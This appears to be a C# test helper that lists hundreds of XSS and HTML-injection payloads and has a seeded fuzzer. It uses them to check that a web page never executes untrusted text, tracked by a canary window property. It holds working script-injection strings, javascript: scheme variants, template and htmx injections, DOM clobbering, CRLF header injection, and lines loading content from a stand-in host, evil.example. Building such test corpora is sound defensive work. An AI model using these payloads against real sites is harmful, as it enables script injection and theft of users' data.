using System.Text;

namespace Posta.Testing;

/// <summary>What strangers write who want a page to run their words. If one ever ran, it would set <see cref="Canary"/>.</summary>
public static class HostileText
{
    /// <summary>A property of the window that nothing of ours ever sets.</summary>
    public const string Canary = "theyGotIn";

    private const string Act = $"window.{Canary}=1";

    private static readonly string[] Tags =
        ["script", "img", "svg", "iframe", "object", "embed", "math", "style", "link", "meta", "base", "form", "input", "textarea", "select", "button", "a", "body", "html", "template", "noscript", "details", "marquee", "video", "audio", "isindex", "xmp", "plaintext", "title", "frameset", "table", "dialog", "portal", "slot"];

    private static readonly string[] Handlers =
        ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onbegin", "onpointerrawupdate", "onbeforetoggle", "ONERROR"];

    private static readonly string[] Breakouts =
        ["", "\"", "'", "\">", "'>", "`>", "</textarea>", "</title>", "</style>", "</script>", "-->", "--!>", "]]>", "</p></div></li></ol>", "\" autofocus ", "' autofocus ", "\u0000\">", "&quot;>", "&#34;>", "\\\">", "<!--", "<![CDATA[", "<?", "</"];

    private static readonly string[] Schemes =
        ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "blob:", "file:///", "view-source:", "https://javascript:", "http://", "https://a.example@", "https://a.example/\"onmouseover=\"", "https://a.example/'><img src=x onerror=", "https://a.example/<svg onload=", "https://[::1]/", "//a.example/", "\\\\a.example\\", "https://xn--a/", "https://аррӏе.example/"];

    private static readonly string[] Others =
    [
        $"{{{{constructor.constructor('{Act}')()}}}}", $"${{{Act}}}", $"#{{{Act}}}", $"<%= {Act} %>", $"{{{{{Act}}}}}", $"[[{Act}]]", $"@({Act})", "@Model", "@@", "@{ }",
        $"<div data-hx-on:load='{Act}'></div>", $"<div hx-on::load=\"{Act}\" data-hx-trigger=\"load[{Act}]\" data-hx-get=\"/\"></div>", "<div data-hx-get='/logout' data-hx-trigger='load'></div>", "<div id=rows hx-swap-oob=true>", "<a data-hx-boost=true href=/>x</a>",
        $"<img/src=x/onerror={Act}>", $"<img src=x:x onerror\n=\n{Act}>", $"<svg><script>{Act}</script>", $"<svg><animate onbegin={Act} attributeName=x>", $"<math><mtext><table><mglyph><style><img src onerror={Act}>", $"<noscript><p title=\"</noscript><img src=x onerror={Act}>\">", $"<svg></p><style><a id=\"</style><img src=1 onerror={Act}>\">",
        $"<scr<script>ipt>{Act}</scr</script>ipt>", $"<<script>{Act}//<</script>", $"%3Cscript%3E{Act}%3C/script%3E", $"\\u003cscript\\u003e{Act}\\u003c/script\\u003e", $"+ADw-script+AD4-{Act}+ADw-/script+AD4-", $"¼script¾{Act}¼/script¾", $"＜script＞{Act}＜/script＞", $"<ſcript>{Act}</ſcript>",
        "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example'</style>", "<form action=//evil.example><input type=submit autofocus>", "<iframe srcdoc='<script>parent.theyGotIn=1</script>'>", "<object data='data:text/html,x'>", "<img src=//evil.example/pixel>", "<img srcset='//evil.example/x 1x'>", "<video poster=//evil.example/x>", "<input type=image src=//evil.example/x>",
        "<img name=getElementById>", "<form id=document><input name=cookie></form>", "<a id=htmx>", "<input name=key value=x>", "<input id=message>", "<div id=composer>", "<ol id=rows>", "<base target=_top>",
        "\u202Egnp.exe\u202C", "\u2066\u2067\u2068\u2069", "a\u0000b", "\uFEFF<script>", "\u2028\u2029", "\u001B[31mred", "\r\nSet-Cookie: chat=x\r\n\r\n<html>", "data: x\n\nevent: bye\n\n", "\uD83D", "\uDE00\uD83D", "e\u0301\u0301\u0301\u0301", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "﷽﷽﷽", "\u200B\u200D\uFE0F",
        "&lt;script&gt;", "&amp;lt;script&amp;gt;", "&#x3C;script&#x3E;", "&NewLine;&Tab;", "&", "&&&&", "&#0;", "&#xD800;", "&notanentity", "<", ">", "<>", "</>", "<a", "< a", "<!", "<!doctype html>", "</body></html>",
    ];

    /// <summary>Some four hundred texts that did harm elsewhere, or are meant to.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Tags.Select(tag => $"<{tag} src=x autofocus onfocus={Act} onerror={Act} onload={Act}>{Act}</{tag}>"),
        .. Tags.Select(tag => $"</{tag}><{tag}"),
        .. from breakout in Breakouts from handler in Handlers select $"{breakout}<img src=x {handler}={Act}>",
        .. Breakouts.Select(breakout => $"{breakout} onfocus={Act} autofocus tabindex=0 "),
        .. Schemes.Select(scheme => $"{scheme}{Act}"),
        .. Schemes.Select(scheme => $"[click]({scheme}{Act}) <a href=\"{scheme}{Act}\">click</a>"),
        .. Others,
    ];

    /// <summary>Pieces of all of them, put together as chance has it; the same seed gives the same texts.</summary>
    public static IEnumerable<string> Fuzz(int seed)
    {
        var random = new Random(seed);
        while (true)
        {
            var text = new StringBuilder();
            for (var pieces = random.Next(1, 6); pieces > 0; pieces--) text.Append(Piece(random));
            yield return text.ToString();
        }
    }

    private static string Piece(Random random)
    {
        var text = All[random.Next(All.Count)];
        var start = random.Next(text.Length);
        return random.Next(4) switch
        {
            0 => text,
            1 => text[start..],
            2 => text[..start],
            _ => ((char)random.Next(1, 0xFFFF)).ToString(),
        };
    }
}
